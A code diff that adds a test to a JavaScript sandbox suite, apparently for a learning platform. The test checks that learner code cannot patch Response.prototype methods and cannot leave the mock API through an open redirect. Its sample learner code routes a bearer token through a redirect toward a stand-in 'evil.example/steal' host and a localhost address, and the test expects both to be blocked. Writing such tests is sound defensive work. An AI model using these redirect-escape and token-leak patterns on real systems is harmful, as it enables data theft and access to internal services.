@@ -241,6 +241,36 @@ describe('learner code cannot bend the record', () => {
     ]);
     expect(record.network[0]).toMatchObject({ outcome: 'failed', status: null });
   });
+
+  it('cannot take the body-read counting off Response, nor leave the mock API through a redirect', async () => {
+    const record = await run(
+      [
+        "try { Response.prototype.json = async () => ({}); } catch (e) { console.log('json', e.name); }",
+        "try { Object.defineProperty(Response.prototype, 'text', { value: () => '' }); } catch (e) { console.log('text', e.name); }",
+        "for (const target of ['https://evil.example/steal', 'http://127.0.0.1:4010/users/1']) {",
+        "  const url = 'https://api.example.com/redirect-to?url=' + encodeURIComponent(target);",
+        "  try { await fetch(url, { headers: { Authorization: 'Bearer secret' } }); console.log('followed'); }",
+        '  catch (e) { console.log(target, e.name); }',
+        '}',
+      ].join('\n'),
+      { clock: 'virtual' },
+    );
+    expect(texts(record)).toEqual([
+      'json TypeError',
+      'text TypeError',
+      expect.stringMatching(
+        /^The redirect from https:\/\/api\.example\.com\/redirect-to\S+ to https:\/\/evil\.example\/steal was not followed/,
+      ),
+      'https://evil.example/steal TypeError',
+      'http://127.0.0.1:4010/users/1 TypeError',
+    ]);
+    expect(record.network.map((entry) => [entry.status, entry.outcome, entry.reason])).toEqual([
+      [302, 'ok', undefined],
+      [null, 'failed', 'Outside the mock API'],
+      [302, 'ok', undefined],
+      [null, 'failed', 'Outside the mock API'],
+    ]);
+  });
 });
 
 describe('one program per sandbox: nothing a run writes reaches another', () => {
